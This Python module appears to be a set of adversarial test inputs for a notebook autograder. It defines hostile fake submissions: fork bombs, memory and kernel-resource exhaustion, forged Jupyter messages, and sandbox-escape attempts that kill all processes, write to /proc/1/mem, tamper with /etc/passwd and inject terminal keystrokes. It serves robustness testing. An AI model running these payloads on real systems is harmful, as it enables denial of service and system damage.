"""Answers that mean harm: to hang, exhaust or slow the grader, and those graded beside or after.

Each tries something and then gives a wrong value: the attacked exercise earns nothing, the other one everything.
What they take is bounded, so that a machine on which one of them succeeds survives it.
"""

from __future__ import annotations

from textwrap import dedent, indent

WRONG = "\n\ndef twice_the_mean(numbers):\n    return 0.0\n"
LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
SENDING = """
import json, zmq
from IPython import get_ipython
kernel = get_ipython().kernel
session, iopub = kernel.session, kernel.iopub_socket
parent = kernel.get_parent("shell")
ours = parent.get("header", {})
def send(header, answered, content):
    parts = [json.dumps(each, default=str).encode() for each in (header, answered, {}, content)]
    iopub.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
"""


def defined(body: str, before: str = "") -> dict[str, str]:
    """An answer that does it as soon as its cell runs."""
    return {"twice_the_mean": before + dedent(body).strip() + WRONG}


def called(body: str, before: str = "") -> dict[str, str]:
    """An answer that does it when its function is called; what `body` does not return is 0."""
    inside = indent(dedent(body).strip(), "    ")
    return {"twice_the_mean": f"{before}\ndef twice_the_mean(numbers):\n{inside}\n    return 0.0\n"}


def in_forks(body: str, count: int = 100, before: str = "") -> dict[str, str]:
    """An answer that does it in many processes, each of which then keeps what it has for a while."""
    inside = indent(dedent(body).strip(), "            ")
    return defined(
        f"import os, time, socket, mmap, fcntl, resource\nkept = []\nfor _ in range({count}):\n"
        f"    if not os.fork():\n        try:\n{inside}\n        except BaseException:\n            pass\n"
        "        time.sleep(30)\n        os._exit(0)\ntime.sleep(1.5)",
        before,
    )


def later(body: str) -> dict[str, str]:
    """An answer that does it from a thread of its own, as soon as the next exercise's function is there."""
    inside = indent(dedent(body).strip(), "    ")
    return defined(
        "import threading, time\ndef wait():\n    while 'distances' not in globals():\n        time.sleep(0.001)\n"
        f"{inside}\nthreading.Thread(target=wait, daemon=True).start()"
    )


MEMORY = {
    "shared memory that is no longer mapped to anything": called(
        """
        import mmap, time
        kept = []
        for _ in range(24):
            area = mmap.mmap(-1, 256 << 20)
            for start in range(0, 256 << 20, 1 << 20):
                area[start:start + (1 << 20)] = b"x" * (1 << 20)
            area.madvise(mmap.MADV_DONTNEED)
            kept.append(area)
        time.sleep(30)
        """
    ),
    "shared memory that children hold and never touch": defined(
        """
        import mmap, os, time
        kept = []
        for _ in range(16):
            kept.append(mmap.mmap(-1, 256 << 20))
            if not os.fork():
                for start in range(0, 256 << 20, 4096):
                    kept[-1][start] = 1
                os._exit(0)
        time.sleep(30)
        """
    ),
    "private memory in many small processes": in_forks("kept.append(b'x' * (50 << 20))", 120),
    "memory locked and forked": in_forks("libc.mlockall(3); kept.append(bytearray(30 << 20))", 100, LIBC),
    "a memfd that is written and not mapped": called(
        """
        import os, time
        kept = []
        for _ in range(150):
            kept.append(os.memfd_create("x"))
            for _ in range(30):
                os.write(kept[-1], b"x" * (1 << 20))
        time.sleep(30)
        """
    ),
    "sockets with unread data": in_forks(
        """
        for _ in range(230):
            one, other = socket.socketpair()
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            one.setblocking(False)
            kept.append((one, other))
            try:
                while True:
                    one.send(b"x" * 30_000)
            except OSError:
                pass
        """
    ),
    "sockets passed through sockets": called(
        """
        import array, socket
        kept = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        kept[0].setblocking(False)
        for _ in range(20_000):
            one, other = socket.socketpair()
            one.setblocking(False)
            try:
                while True:
                    one.send(b"x" * 65536)
            except OSError:
                pass
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [one.fileno(), other.fileno()]))]
            kept[0].sendmsg([b"x"], rights)
        """
    ),
    "datagrams to oneself over the network": in_forks(
        """
        for _ in range(200):
            kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            kept[-1].bind(("127.0.0.1", 0))
            kept[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
            for _ in range(8):
                kept[-1].sendto(b"x" * 60_000, kept[-1].getsockname())
        """
    ),
    "pipes filled to the brim": in_forks(
        """
        for _ in range(230):
            end, start = os.pipe()
            kept.append((end, start))
            os.set_blocking(start, False)
            try:
                fcntl.fcntl(start, 1031, 1 << 20)
            except OSError:
                pass
            os.write(start, b"x" * (1 << 20))
        """
    ),
    "page tables": in_forks(
        """
        file = os.open(f"/dev/shm/one", os.O_CREAT | os.O_RDWR)
        os.ftruncate(file, 32 << 20)
        libc.mmap.restype = ctypes.c_void_p
        for _ in range(250):
            libc.mmap(None, ctypes.c_size_t(32 << 20), 3, 0x8001, file, ctypes.c_long(0))
        """,
        140,
        LIBC,
    ),
    "page tables of single pages far apart": in_forks(
        """
        area = mmap.mmap(-1, 9 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
        for start in range(0, 9 << 30, 2 << 20):
            area[start]
        """,
        140,
    ),
    "as many mappings as there can be": in_forks(
        """
        for number in range(65_000):
            libc.mmap(None, ctypes.c_size_t(4096), 1 + number % 2, 0x22, -1, ctypes.c_long(0))
        """,
        60,
        LIBC,
    ),
    "deleted files that stay open": called(
        """
        import os, time
        kept = []
        for folder in ("/tmp", "/home", "/dev/shm", "/sockets"):
            try:
                while True:
                    kept.append(os.open(folder + "/x", os.O_CREAT | os.O_WRONLY))
                    os.unlink(folder + "/x")
                    for _ in range(32):
                        os.write(kept[-1], b"x" * (1 << 20))
            except OSError:
                pass
        time.sleep(30)
        """
    ),
    "empty files without end": called(
        """
        import os
        for folder in ("/dev/shm", "/tmp", "/home"):
            if not os.fork():
                for number in range(2_000_000):
                    os.close(os.open(f"{folder}/{number:0200d}", os.O_CREAT))
        while True:
            pass
        """
    ),
    "long symbolic links without end": called(
        """
        import os
        for folder in ("/dev/shm", "/tmp", "/home"):
            if not os.fork():
                for number in range(500_000):
                    os.symlink("x" * 4000, f"{folder}/{number}")
        while True:
            pass
        """
    ),
    "files with long attributes": called(
        """
        import os
        for number in range(20_000):
            open(f"/dev/shm/{number}", "w").close()
            os.setxattr(f"/dev/shm/{number}", "user.x", b"x" * 60_000)
        """
    ),
    "folders too deep to be removed": called(
        """
        import os
        os.chdir("/tmp")
        for _ in range(200_000):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        """
    ),
    "locks on every other byte of a file": called(
        """
        import fcntl
        file = open("/tmp/locked", "w")
        for place in range(3_000_000, 0, -2):
            fcntl.lockf(file, fcntl.LOCK_EX, 1, place)
        """
    ),
    "shared memory of System V": called(
        """
        for _ in range(40):
            area = libc.shmget(0, ctypes.c_size_t(100 << 20), 0o1600)
            libc.shmat.restype = ctypes.c_void_p
            place = libc.shmat(area, None, 0)
            if area >= 0 and place:
                ctypes.memset(place, 1, 100 << 20)
                libc.shmdt(ctypes.c_void_p(place))
        """,
        LIBC,
    ),
    "queues and semaphores of System V": called(
        """
        for _ in range(30_000):
            queue = libc.msgget(0, 0o1600)
            libc.msgsnd(queue, b"\\1" + b"\\0" * 8008, ctypes.c_size_t(8000), 0o4000)
            libc.semget(0, 30_000, 0o1600)
        """,
        LIBC,
    ),
    "signals that wait": called(
        """
        import signal, threading
        signal.pthread_sigmask(signal.SIG_BLOCK, range(35, 60))
        for number in range(300_000):
            libc.sigqueue(os.getpid(), 35 + number % 25, ctypes.c_void_p(number))
        """,
        LIBC,
    ),
    "timers by the thousand": called(
        """
        place = ctypes.create_string_buffer(16)
        soon = (ctypes.c_long * 4)(0, 20_000, 0, 20_000)
        event = (ctypes.c_int * 16)(0, 0, 35, 1)
        for _ in range(100_000):
            libc.timer_create(1, event, place)
            libc.timer_settime(ctypes.c_void_p.from_buffer(place), 0, soon, None)
        """,
        LIBC,
    ),
    "keys in the kernel's ring": called(
        """
        for number in range(10_000):
            libc.syscall(248, b"user", b"k%d" % number, b"x" * 30_000, 30_000, -4)
        """,
        LIBC,
    ),
    "a ring of input and output": called(
        """
        for _ in range(200):
            libc.syscall(425, 32768, ctypes.create_string_buffer(120))
            libc.syscall(323, 0)
            libc.syscall(319, b"x", 4)
            libc.syscall(447, 0)
        """,
        LIBC,
    ),
    "terminals, all there are": in_forks("for _ in range(240): kept.append(os.openpty())", 20),
    "watchers that watch watchers": in_forks(
        """
        import select
        for _ in range(200):
            kept.append(select.epoll())
            for other in kept[:-1]:
                kept[-1].register(other.fileno())
        """,
        50,
    ),
}

TIME = {
    "every processor, many times over": in_forks("while True: pass", 150),
    "forks of forks": called(
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """
    ),
    "forks that change their session and wait": in_forks(
        "os.setsid(); os.closerange(0, 512); os.fork(); time.sleep(3600)", 70
    ),
    "threads of threads": called(
        """
        import threading
        def again():
            while True:
                try:
                    threading.Thread(target=again, daemon=True).start()
                except RuntimeError:
                    pass
        again()
        """
    ),
    "deaf to every signal": called(
        """
        import signal, time
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)
        """
    ),
    "in a sum that cannot be interrupted": called("return 7 ** 7 ** 9 % 10"),
    "in a regular expression": called("import re\nreturn float(bool(re.match('(a|aa)+$', 'a' * 200 + 'b')))"),
    "stopped": called("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "a child that shares its parent's memory and stops": called("libc.syscall(58) or libc.pause()", LIBC),
    "at the end, when the interpreter is torn down": defined(
        """
        import atexit, signal, sys, threading, time
        atexit.register(time.sleep, 3600)
        threading.Thread(target=time.sleep, args=(3600,)).start()
        signal.signal(signal.SIGTERM, lambda *_: time.sleep(3600))
        signal.signal(signal.SIGINT, lambda *_: time.sleep(3600))
        """
    ),
    "the next exercise, made to sleep": later("globals()['distances'] = lambda numbers: time.sleep(3600)"),
    "the next exercise, made to print": later("while True:\n    print('x' * 100_000)"),
    "the next exercise, made to fill the memory": later(
        "globals()['distances'] = lambda numbers: [b'x' * (1 << 20) for _ in range(6000)]"
    ),
    "a cell hook that sleeps": defined(
        """
        import time
        from IPython import get_ipython
        get_ipython().events.register("pre_run_cell", lambda *_: time.sleep(3600))
        get_ipython().events.register("post_run_cell", lambda *_: time.sleep(3600))
        """
    ),
    "an import that never ends, for whoever comes after": defined(
        """
        import importlib, sys, time
        class Slow:
            def find_spec(self, *_):
                time.sleep(3600)
        sys.meta_path.insert(0, Slow())
        sys.path_hooks.insert(0, time.sleep)
        """
    ),
}

MESSAGES = {
    "no message at all": called(
        """
        for _ in range(1000):
            iopub.send_multipart([b"nonsense", b"\\xff" * 100, b"{", b"]"])
            iopub.send_multipart([b""])
        """,
        SENDING,
    ),
    "one message of two gigabytes": called(
        "for _ in range(2):\n    iopub.send_multipart([b'x' * (1 << 30)])", SENDING
    ),
    "a message with a million parts": called("iopub.send_multipart([b'x'] * 1_000_000)", SENDING),
    "messages without end": called(
        "while True:\n    session.send(iopub, 'stream', {'name': 'stdout', 'text': 'x'}, parent=parent)",
        SENDING,
    ),
    "messages that nobody prints, without end": called(
        "while True:\n    session.send(iopub, 'comm_msg', {'comm_id': '1', 'data': 'x' * 1000}, parent=parent)",
        SENDING,
    ),
    "messages for nobody's cell, without end": called(
        "while True:\n    session.send(iopub, 'stream', {'text': 'x' * 10_000}, parent={})", SENDING
    ),
    "contents of the wrong type": called(
        """
        for kind in ("display_data", "execute_result", "error", "status", "stream", "execute_reply", "execute_input"):
            for content in ([], "x", 1, None, {}, {"data": []}, {"data": None, "metadata": 1}, {"execution_state": []}):
                send(session.msg_header(kind), ours, content)
        """,
        SENDING,
    ),
    "headers of the wrong type": called(
        """
        for header in ([], "x", 1, None, {}, {"msg_id": []}, {"msg_id": {}, "msg_type": []}):
            for answered in (ours, header):
                for head in (header, session.msg_header("stream")):
                    send(head, answered, header)
        """,
        SENDING,
    ),
    "errors by the thousand": called(
        """
        for _ in range(20_000):
            session.send(iopub, "error", {"ename": "ValueError", "evalue": "", "traceback": []}, parent=parent)
        """,
        SENDING,
    ),
    "contents nested too deep": called(
        """
        head, ours = (json.dumps(each, default=str).encode() for each in (session.msg_header("display_data"), parent))
        parts = [head, ours, b"{}", b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"]
        iopub.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
        """,
        SENDING,
    ),
    "a number of a million digits in a message": called(
        """
        head, ours = (json.dumps(each, default=str).encode() for each in (session.msg_header("display_data"), parent))
        parts = [head, ours, b"{}", b'{"data": {"text/plain": ' + b"9" * 1_000_000 + b"}}"]
        iopub.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
        """,
        SENDING,
    ),
    "a reply that never comes": called(
        "import threading\nkernel.shell_stream = None\nsession.send = lambda *_, **__: None", SENDING
    ),
    "idle for ever and a reply before its time": called(
        """
        for state in ("idle", "busy", "idle", "starting", "dead"):
            session.send(iopub, "status", {"execution_state": state}, parent=parent)
        while True:
            pass
        """,
        SENDING,
    ),
    "a question to the teacher": called("return float(input('the key, please: '))"),
    "a display changed afterwards": called(
        """
        for _ in range(100):
            display({"text/plain": "x"}, raw=True, display_id="one", update=True)
        get_ipython().payload_manager.write_payload({"source": "set_next_input", "text": "1 / 0", "replace": True})
        """,
        "from IPython.display import display\nfrom IPython import get_ipython\n",
    ),
    "both standard outputs, past Python, without end": called(
        "import os\nif os.fork():\n    while True: os.write(1, b'x' * 65536)\nwhile True: os.write(2, b'x' * 65536)"
    ),
    "nonsense into whatever is open": defined(
        """
        import os
        for number in range(3, 512):
            try:
                os.set_blocking(number, False)
                for text in (b"\\0" * 8, b"{}\\n", b"\\xff" * 70_000):
                    os.write(number, text)
            except OSError:
                pass
        """
    ),
    "whatever is open, closed": defined("import os\nos.closerange(0, 512)"),
    "whatever is open, read empty": defined(
        """
        import os
        for number in range(512):
            try:
                os.set_blocking(number, False)
                while os.read(number, 65536):
                    pass
            except OSError:
                pass
        """
    ),
    "strangers at the kernel's sockets": defined(
        """
        import os, socket, threading
        kept = []
        for folder, _, files in os.walk("/sockets"):
            for name in files * 60:
                try:
                    kept.append(socket.socket(socket.AF_UNIX))
                    kept[-1].connect(os.path.join(folder, name))
                    kept[-1].sendall(b"\\xff" + b"\\0" * 7 + b"\\xff\\x7f\\3" + b"x" * 1000)
                except OSError:
                    pass
        """
    ),
    "the kernel's sockets, removed or held by others": defined(
        """
        import os, socket
        for folder, _, files in os.walk("/sockets"):
            for name in files:
                os.unlink(os.path.join(folder, name))
                other = socket.socket(socket.AF_UNIX)
                other.bind(os.path.join(folder, name))
                other.listen()
        """
    ),
}

VALUES = {
    "a value without end": called(
        "class Endless:\n    def __iter__(self):\n        while True:\n            yield 1.0\nreturn Endless()"
    ),
    "a value that contains itself": called("value = []\nvalue.append(value)\nreturn value"),
    "a value nested a hundred thousand times": called(
        "import sys\nsys.setrecursionlimit(10**9)\nvalue = 1.0\n"
        "for _ in range(100_000):\n    value = [value]\nreturn value"
    ),
    "a value nested as deep as JSON can": called(
        "value = 1.0\nfor _ in range(900):\n    value = {'x': value}\nreturn value"
    ),
    "an array that is larger than any memory": called(
        "import numpy\nreturn numpy.broadcast_to(numpy.float64(1), (10**6, 10**6))"
    ),
    "an array of a hundred million numbers": called("import numpy\nreturn numpy.zeros(10**8)"),
    "a whole number of a hundred thousand digits": called(
        "import sys\nsys.set_int_max_str_digits(0)\nreturn 10 ** 100_000"
    ),
    "half a character": called("return '\\ud800' * 1000"),
    "a text of a hundred megabytes": called("return '<b>' * 30_000_000"),
    "a million names": called("return dict.fromkeys(range(1_000_000))"),
    "published a million times": called(
        """
        from IPython.display import display
        for number in range(1_000_000):
            display({"application/vnd.gan-course.values+json": {"value" + "x" * 1000 + str(number): number}}, raw=True)
        """
    ),
    "published as a list, and as nothing": called(
        """
        from IPython.display import display
        for value in ([["value", 1]], None, "value", 3, {"value": None}, {"": {}}):
            display({"application/vnd.gan-course.values+json": value}, raw=True)
        """
    ),
}

ERRORS = {
    "an error told at endless length": called("raise ValueError('line 1, in f\\n' * 3_000_000)"),
    "a traceback that names a hundred thousand lines": called(
        """
        shell = get_ipython()
        content = {"ename": "ValueError", "evalue": "", "traceback": ["line 1 " * 140_000]}
        shell._showtraceback = lambda *_: shell.kernel.send_response(shell.kernel.iopub_socket, "error", content)
        return 1 / 0
        """,
        "\n" * 400_000 + "from IPython import get_ipython\n",
    ),
    "a traceback of a million pieces": called(
        """
        shell = get_ipython()
        content = {"ename": ["x"] * 10**5, "evalue": {}, "traceback": ["\\x1b[" + "0;" * 50] * 10**5}
        shell._showtraceback = lambda *_: shell.kernel.send_response(shell.kernel.iopub_socket, "error", content)
        return 1 / 0
        """,
        "from IPython import get_ipython\n",
    ),
    "an error whose name is a page": called(
        "raise type('<script>alert(1)</script>\\n\\x1b[2J=1+1', (Exception,), {'__str__': lambda _: '</pre>' * 9**6})()"
    ),
    "an error with endless causes": called(
        """
        one = ValueError()
        for _ in range(100_000):
            another = ValueError()
            another.__cause__ = one
            one = another
        raise one
        """
    ),
    "an exit that is none": called("import os, sys\nsys.stdout.flush()\nos._exit(0)"),
    "a crash": called("import ctypes\nctypes.string_at(0)"),
}

SOURCES = {
    "brackets that open": {"twice_the_mean": "x = " + "[" * 49_000 + WRONG},
    "an attribute of an attribute": {"twice_the_mean": "x = y" + ".a" * 20_000 + WRONG},
    "signs before a number": {"twice_the_mean": "x = " + "-" * 40_000 + "1" + WRONG},
    "sums of sums": {"twice_the_mean": "x = 1" + "+1" * 20_000 + WRONG},
    "a branch in a branch": {
        "twice_the_mean": "if 0: pass\n" + "".join(f"elif {each}: pass\n" for each in range(3000)) + WRONG
    },
    "indented a hundred times": {
        "twice_the_mean": "\n".join(" " * each + "if 1:" for each in range(99))
        + "\n"
        + " " * 99
        + "pass"
        + WRONG
    },
    "a constant that takes a day to fold": {"twice_the_mean": "x = " + "**".join(["9"] * 9) + WRONG},
    "megabytes of code": {"twice_the_mean": "x = [1, 2, 3]\n" * 70_000 + WRONG},
    "a number of forty thousand digits": {"twice_the_mean": "x = 0x" + "f" * 40_000 + WRONG},
    "characters that are none": {"twice_the_mean": "x = '\0\x0c\x1a\u202e'  # coding: utf-7" + WRONG},
    "dots in a pattern": {
        "twice_the_mean": "match x:\n"
        + "".join(f"    case [{'[' * 60}{']' * 60}]: pass\n" for _ in range(300))
        + WRONG
    },
}

ESCAPES = {
    "every process within reach, killed": defined(
        "import os, signal\nfor number in (-1, 0, 1, os.getppid()):\n    os.kill(number, signal.SIGKILL)"
    ),
    "the parent, stopped": defined(
        "import os, signal\nfor number in (1, os.getppid()):\n    os.kill(number, signal.SIGSTOP)\n"
        "    os.kill(number, signal.SIGTERM)"
    ),
    "the parent, traced": defined(
        "for number in (1, os.getppid()):\n    libc.ptrace(16, number, 0, 0)\n    libc.syscall(434, number, 0)\n"
        "import time\ntime.sleep(1)",
        LIBC,
    ),
    "the parent's memory, written": defined(
        """
        import re
        with open("/proc/1/maps") as maps, open("/proc/1/mem", "r+b", 0) as memory:
            for found in re.finditer("(\\\\w+)-(\\\\w+) rw", maps.read()):
                memory.seek(int(found[1], 16))
                memory.write(b"x" * 4096)
        """
    ),
    "the parent's descriptors": defined(
        """
        import os
        for number in range(100):
            mine = libc.syscall(438, libc.syscall(434, 1, 0), number, 0)
            if mine >= 0:
                os.write(mine, b"x" * 100)
            if os.path.lexists(f"/proc/1/fd/{number}"):
                open(f"/proc/1/fd/{number}", "r+b").write(b"x" * 100)
        """,
        LIBC,
    ),
    "new namespaces and mounts": in_forks(
        """
        libc.unshare(0x10000000)
        libc.unshare(0x7C020000)
        os.makedirs("/tmp/m", exist_ok=True)
        libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, b"size=4g")
        for number in range(60):
            open(f"/tmp/m/{number}", "wb").write(b"x" * (30 << 20))
        """,
        2,
        LIBC,
    ),
    "files of the course and of Python, overwritten": defined(
        """
        import os, numpy, course_lib
        for path in (course_lib.__file__, numpy.__file__, "/program/fork_server.py", "/etc/passwd"):
            changes = lambda: open(path, "a").write("1/0"), lambda: os.unlink(path), lambda: os.chmod(path, 0o777)
            for change in changes:
                try:
                    change()
                except OSError:
                    pass
        """
    ),
    "pages in Python's own memory, for the next one": defined(
        """
        import ctypes, sys, mmap
        for number in range(-5, 257):
            ctypes.c_long.from_address(id(number) + 24).value = 7
        """
    ),
    "a way out over the network": called(
        """
        import socket
        for family, place in ((2, ("127.0.0.1", 22)), (2, ("10.0.0.1", 80)), (1, "\\0x"), (1, "/run/docker.sock")):
            try:
                socket.socket(family).connect(place)
            except OSError:
                pass
        socket.socket(40, 1).connect((2, 1024))
        """
    ),
    "keys pressed on the teacher's terminal": defined(
        """
        import fcntl, os
        for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0"):
            try:
                file = os.open(path, os.O_RDWR | os.O_NOCTTY)
                for letter in b"exit\\n":
                    fcntl.ioctl(file, 0x5412, bytes([letter]))
            except OSError:
                pass
        """
    ),
    "limits and priorities changed": defined(
        """
        import os, resource
        for which in range(16):
            try:
                resource.setrlimit(which, (0, 0))
            except (ValueError, OSError):
                pass
            try:
                resource.prlimit(1, which, (0, 0))
            except (ValueError, OSError):
                pass
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
        """
    ),
    "settings of the machine": defined(
        """
        import glob
        others = ["/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/self/oom_score_adj"]
        for path in glob.glob("/proc/sys/*/*") + others:
            try:
                open(path, "w").write("1")
            except OSError:
                pass
        """
    ),
}

NAMES = {
    "both answers in one": {
        "twice_the_mean": "def distances(numbers):\n    return 0.0\n\n\n__name__ = 'distances'" + WRONG
    },
    "the other answer, overwritten in every namespace": defined(
        """
        import gc
        for each in gc.get_objects():
            if isinstance(each, dict) and "distances" in each:
                each["distances"] = None
        """
    ),
    "the modules of the course, gone": defined(
        "import sys\nfor name in list(sys.modules):\n    if name != 'sys':\n        sys.modules[name] = None"
    ),
    "built-ins that lie": defined(
        "import builtins\nfor name in ('len', 'isinstance', 'abs', 'print', 'dict', 'str', '__import__'):\n"
        "    setattr(builtins, name, lambda *_, **__: 0)"
    ),
    "another's parent message": defined(
        """
        import threading, time
        def change():
            while True:
                kernel.set_parent([b"x"], {"header": {"msg_id": "x", "msg_type": "x", "session": "x"}}, channel="shell")
                time.sleep(0.001)
        threading.Thread(target=change, daemon=True).start()
        """,
        SENDING,
    ),
}

ATTACKS: dict[str, dict[str, str]] = MEMORY | TIME | MESSAGES | VALUES | ERRORS | SOURCES | ESCAPES | NAMES
